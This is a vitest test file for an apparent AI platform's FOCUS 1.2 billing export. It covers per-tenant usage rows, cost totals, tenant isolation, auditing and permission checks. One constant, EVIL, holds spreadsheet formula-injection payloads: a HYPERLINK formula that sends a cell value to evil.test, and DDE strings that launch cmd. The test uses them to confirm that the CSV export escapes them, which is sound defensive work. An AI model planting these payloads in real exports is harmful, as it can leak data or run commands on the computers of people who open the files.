import { beforeAll, describe, expect, it } from "vitest";
import { randomUUID } from "node:crypto";
import { Prisma } from "../db/generated/client.ts";
import { makeActor, makeModelWithVersions, testDb, testDrivers, uid } from "../test/harness.ts";
import { PrometheusClient } from "../metrics/prometheus-client.ts";
import type { Actor } from "../auth/actor.ts";
import { handleGuarded } from "../http/guarded.ts";
import { rollupDirtyHours } from "../usage/rollup.ts";
import { refreshDirtyDays } from "../usage/daily.ts";
import { focusExportInput } from "./schemas.ts";
import { streamFocusResponse } from "./focus-export.ts";
import { readFocusFile } from "./focus-file.ts";
import { focusViolations, MANDATORY_COLUMNS } from "./focus-spec.ts";

const D = Prisma.Decimal;
let a: { id: string; slug: string; name: string };
let b: { id: string; slug: string };
let chat: { id: string; slug: string };
let vision: { id: string; slug: string };
let region: string;
let evil: { id: string };
let evilEndpoint: { id: string; slug: string };
const EVIL = { tenant: '=HYPERLINK("http://evil.test/?"&A1,"Invoice")', endpoint: "+cmd|' /C calc'!A0", model: "@SUM(1+1)*cmd|' /C calc'!A0" };
const people = {} as Record<"admin" | "operator" | "auditor" | "tenantA", Actor>;

/** A GET of /api/usage/focus through the route handlers' guard, as Next calls it. */
function focus(actor: Actor | null, query: Record<string, string>) {
  const ctx = { db: testDb(), actor, ip: "203.0.113.7", drivers: testDrivers(), prometheus: new PrometheusClient(null) };
  return handleGuarded(ctx, new Request(`http://kule.test/api/usage/focus?${new URLSearchParams(query)}`), {}, { permission: "usage:read", input: focusExportInput }, streamFocusResponse);
}

async function endpoint(task: "llm" | "vision") {
  const db = testDb();
  const model = await makeModelWithVersions(["1.0"]);
  await db.model.update({ where: { id: model.id }, data: { task } });
  const nodePool = await db.nodePool.findFirstOrThrow({ orderBy: { name: "asc" } });
  region = nodePool.region;
  return db.endpoint.create({ data: { name: `FOCUS ${task} ${uid()}`, slug: `focus-${task}-${uid()}`, modelId: model.id, engine: "vllm", nodePoolId: nodePool.id, sloAvailabilityPct: "99.9", sloP99LatencyMs: 2000 } });
}

/** Calls as the gateway logs them, rolled into hours and days by the app's own jobs. */
async function calls(rows: { tenantId: string; endpointId: string; at: string; prompt?: number; completion?: number; status?: number }[]) {
  for (const r of rows) {
    const at = new Date(r.at);
    await testDb().$executeRaw`INSERT INTO "CallLog" ("requestId", "tenantId", "apiKeyId", "endpointId", "endpointVersionId", "startedAt", "endedAt", status, "promptTokens", "completionTokens", region)
      VALUES (${randomUUID()}, ${r.tenantId}, 'k', ${r.endpointId}, 'v', ${at}, ${new Date(at.getTime() + 100)}, ${r.status ?? 200}, ${r.prompt ?? 0}, ${r.completion ?? 0}, 'tr-ist')`;
  }
}

beforeAll(async () => {
  const db = testDb();
  const plan = await db.pricePlan.create({ data: { name: `focus-${uid()}`, currency: "TRY" } });
  await db.planPrice.create({ data: { planId: plan.id, effectiveFrom: new Date("2026-01-01"), inputPer1M: "20", outputPer1M: "60", perRequest: "0.02" } });
  // Slugs in a's then b's order: the file is in day, tenant and endpoint order.
  const s = uid();
  a = await db.tenant.create({ data: { name: `Focus "A" Şirketi, ${s}`, slug: `focus-${s}-a`, pricePlanId: plan.id } });
  b = await db.tenant.create({ data: { name: `Focus B ${s}`, slug: `focus-${s}-b`, pricePlanId: plan.id } });
  [chat, vision] = [await endpoint("llm"), await endpoint("vision")];
  // Names an operator or a tenant chose, written as a spreadsheet would run them.
  evil = await db.tenant.create({ data: { name: EVIL.tenant, slug: `focus-${s}-c`, pricePlanId: plan.id } });
  evilEndpoint = await endpoint("llm");
  await db.endpoint.update({ where: { id: evilEndpoint.id }, data: { name: EVIL.endpoint } });
  await db.model.update({ where: { id: (await db.endpoint.findUniqueOrThrow({ where: { id: evilEndpoint.id } })).modelId }, data: { name: EVIL.model } });
  await calls([
    { tenantId: a.id, endpointId: chat.id, at: "2026-11-03T09:00:00Z", prompt: 1000, completion: 500 },
    { tenantId: a.id, endpointId: chat.id, at: "2026-11-03T17:30:00Z", prompt: 2000, completion: 100 },
    { tenantId: a.id, endpointId: chat.id, at: "2026-11-03T18:00:00Z", prompt: 10, completion: 0, status: 503 },
    { tenantId: a.id, endpointId: chat.id, at: "2026-11-30T23:59:00Z", prompt: 400, completion: 400 },
    { tenantId: a.id, endpointId: vision.id, at: "2026-11-04T08:00:00Z" },
    { tenantId: a.id, endpointId: vision.id, at: "2026-11-04T08:01:00Z" },
    { tenantId: a.id, endpointId: chat.id, at: "2026-12-01T00:00:00Z", prompt: 100, completion: 100 },
    { tenantId: b.id, endpointId: chat.id, at: "2026-11-03T10:00:00Z", prompt: 5000, completion: 5000 },
    { tenantId: evil.id, endpointId: evilEndpoint.id, at: "2026-11-07T10:00:00Z", prompt: 100, completion: 50 },
  ]);
  await rollupDirtyHours(db);
  await refreshDirtyDays(db);
  people.admin = await makeActor("admin");
  people.operator = await makeActor("operator");
  people.auditor = await makeActor("auditor");
  people.tenantA = await makeActor("tenant", a.id);
}, 60_000);

describe("the FOCUS 1.2 export", () => {
  it("gives a tenant its own month, one row per endpoint and day, each conforming to the spec and adding up to what it was charged", async () => {
    const res = await focus(people.tenantA, { from: "2026-11", format: "csv" });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="kule-focus-${a.slug}-2026-11.csv"; filename*=UTF-8''kule-focus-${a.slug}-2026-11.csv`);
    const text = await res.text();
    const { header, rows } = readFocusFile(text, "csv");
    expect(focusViolations(header, rows)).toEqual([]);
    expect(header).toEqual(expect.arrayContaining(MANDATORY_COLUMNS));
    expect(rows.map((r) => [r.ChargePeriodStart, r.ResourceId, r.ConsumedQuantity, r.ConsumedUnit])).toEqual([
      ["2026-11-03T00:00:00Z", chat.id, "3610", "Tokens"],
      ["2026-11-04T00:00:00Z", vision.id, "2", "Requests"],
      ["2026-11-30T00:00:00Z", chat.id, "800", "Tokens"],
    ]);
    expect(new Set(rows.map((r) => r.BillingAccountId))).toEqual(new Set([a.id]));
    // 1,000 + 2,000 input at 20/1M and 500 + 100 output at 60/1M (the 503 is not charged); 2 images at 0.02.
    expect(rows.map((r) => new D(r.BilledCost as string).toFixed(6))).toEqual(["0.096000", "0.040000", "0.032000"]);
    expect(rows[0]).toMatchObject({ BillingAccountName: a.name, BillingCurrency: "TRY", BillingPeriodStart: "2026-11-01T00:00:00Z", BillingPeriodEnd: "2026-12-01T00:00:00Z", ChargeCategory: "Usage", ChargeClass: "", ServiceCategory: "AI and Machine Learning", ServiceSubcategory: "Generative AI", x_Requests: "3", x_ErrorRequests: "1", RegionId: region });
    expect(JSON.parse(rows[0]!.Tags as string)).toMatchObject({ "kule.tenant": a.slug, "kule.endpoint": chat.slug });
    // The tenant's own usage figures for the month agree with the file, to the kuruş.
    const charged = await testDb().usageDay.aggregate({ where: { tenantId: a.id, day: { gte: new Date("2026-11-01"), lt: new Date("2026-12-01") } }, _sum: { charged: true } });
    expect(rows.reduce((s, r) => s.add(r.BilledCost as string), new D(0)).toFixed(2)).toBe(new D(charged._sum.charged!).toFixed(2));
  });

  it("never shows a tenant another tenant's rows: asking for one is NOT_FOUND", async () => {
    const res = await focus(people.tenantA, { from: "2026-11", tenantId: b.id });
    expect(res.status).toBe(404);
    expect(await res.text()).not.toContain(b.slug);
  });

  it("gives staff every tenant as JSONL, audited with its row count and digest", async () => {
    for (const who of ["admin", "operator"] as const) {
      const res = await focus(people[who], { from: "2026-10", to: "2026-12", format: "jsonl" });
      expect(res.status).toBe(200);
      const { header, rows } = readFocusFile(await res.text(), "jsonl");
      expect(focusViolations(header, rows)).toEqual([]);
      const mine = rows.filter((r) => r.BillingAccountId === a.id || r.BillingAccountId === b.id);
      expect(mine.map((r) => [r.BillingAccountId, r.ChargePeriodStart])).toEqual([
        [a.id, "2026-11-03T00:00:00Z"],
        [b.id, "2026-11-03T00:00:00Z"],
        [a.id, "2026-11-04T00:00:00Z"],
        [a.id, "2026-11-30T00:00:00Z"],
        [a.id, "2026-12-01T00:00:00Z"],
      ]);
      expect(typeof mine[0]!.BilledCost).toBe("number");
      expect(mine[0]!.Tags).toMatchObject({ "kule.endpoint": chat.slug });
      // Quotes, commas and Turkish letters come through both formats as written.
      expect(mine[0]!.BillingAccountName).toBe(a.name);
    }
    await expect.poll(() => testDb().auditEvent.count({ where: { action: "usage.focus.export.streamed", actorId: people.admin.userId } })).toBe(1);
  });

  it("writes tenant, endpoint and model names that start with = + @ as text a spreadsheet will not run; JSONL keeps them as they are", async () => {
    const res = await focus(people.operator, { from: "2026-11", tenantId: evil.id, format: "csv" });
    const { header, rows } = readFocusFile(await res.text(), "csv");
    expect(focusViolations(header, rows)).toEqual([]);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ BillingAccountName: `'${EVIL.tenant}`, ResourceName: `'${EVIL.endpoint}`, ServiceName: `'${EVIL.endpoint}`, BilledCost: expect.stringMatching(/^0\.\d+$/), x_InputTokens: "100" });
    // No cell of the row starts as a formula would.
    expect(Object.values(rows[0]!).filter((v) => /^[=+\-@\t\r]/.test(String(v)))).toEqual([]);
    expect(JSON.parse(rows[0]!.Tags as string)).toMatchObject({ "kule.model": EVIL.model });
    const jl = readFocusFile(await (await focus(people.operator, { from: "2026-11", tenantId: evil.id, format: "jsonl" })).text(), "jsonl");
    expect(jl.rows[0]).toMatchObject({ BillingAccountName: EVIL.tenant, ResourceName: EVIL.endpoint });
  });

  it("refuses an auditor (no usage permission) and a bad period, naming the field", async () => {
    expect((await focus(people.auditor, { from: "2026-11" })).status).toBe(403);
    const bad = await focus(people.admin, { from: "2026-13" });
    expect([bad.status, Object.keys((await bad.json()).fieldErrors)]).toEqual([400, ["from"]]);
    const backwards = await focus(people.admin, { from: "2026-11", to: "2026-10" });
    expect([backwards.status, (await backwards.json()).fieldErrors.to]).toEqual([400, ["not before from"]]);
  });
});
